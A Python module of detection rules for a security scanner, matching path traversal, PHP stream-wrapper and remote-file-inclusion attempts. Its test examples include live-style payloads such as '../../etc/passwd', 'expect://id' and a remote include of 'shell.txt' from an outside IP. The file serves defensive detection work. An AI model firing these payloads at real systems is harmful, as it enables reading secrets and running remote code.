"""Path traversal and file inclusion: ../ sequences, stream wrappers, remote includes."""

from __future__ import annotations

from typing import Tuple

from rasa_secure.core.injection.rules.base import (
    PATH_TRAVERSAL,
    Rule,
    Strength,
    define,
)

RULES: Tuple[Rule, ...] = (
    define(
        "path.traversal",
        PATH_TRAVERSAL,
        r"(?:\.\.[/\\]){2,}|(?:^|[=/\\'\"\s])\.\.[/\\](?:etc|windows|winnt|boot|proc|var|usr|"
        r"home|root|\.\.)|(?:%2e%2e|\.%2e|%2e\.|%252e%252e|\.\.%2f|\.\.%5c|%c0%ae%c0%ae|"
        r"\.\.%c0%af)(?:[/\\]|%2f|%5c)?",
        Strength.HIGH,
        "../ ..\\ %2e .%2e %252e ..%2f ..%5c %c0%ae ..%c0%af",
        "directory traversal",
        examples=("../../etc/passwd", "statement=../../../../etc/passwd"),
        counterexamples=('junk <a href="../">foo.com</a>',),
    ),
    define(
        "path.wrapper",
        PATH_TRAVERSAL,
        r"\b(?:php|zip|phar|expect|glob)://[\w/\\.%~-]|\bdata://[\w.+-]+/[\w.+-]+[;,]",
        Strength.HIGH,
        "php:// zip:// phar:// expect:// glob:// data://",
        "PHP stream wrappers used for file inclusion (php://filter, expect://, data://)",
        examples=("expect://id", "php://filter/convert.base64-encode/resource=index.php"),
        counterexamples=("I typed php:// into the browser by mistake, is my account safe?",),
    ),
    define(
        "path.remote_include",
        PATH_TRAVERSAL,
        r"(?:^|[?&;\s])(?:page|file|filename|include|inc|incl|include_path|path|template|tpl|"
        r"doc|document|folder|dir|root|pg|style|lang|language|layout|mod|module|conf|config|"
        r"cat|load|read|req|require|menu|main|theme|skin|class)=(?:(?:https?|ftps?|smb|php|data|"
        r"expect):)?(?://|\\\\)[\w.-]+[/\\]|(?:https?|ftp)://\S{1,200}?\.(?:txt|php\d?|phtml|"
        r"inc|jsp|sh)%00",
        Strength.FIRM,
        ":// =// =\\\\",
        "remote file inclusion: an include-style parameter given a URL (also protocol-relative "
        "or a UNC share), or a remote script cut off with a null byte",
        examples=("?file=//203.0.113.5/shell.txt", "http://203.0.113.5/shell.txt%00"),
        counterexamples=(
            "what does file:// mean in my browser",
            "please check https://example.com/login.php? is it safe",
        ),
    ),
)
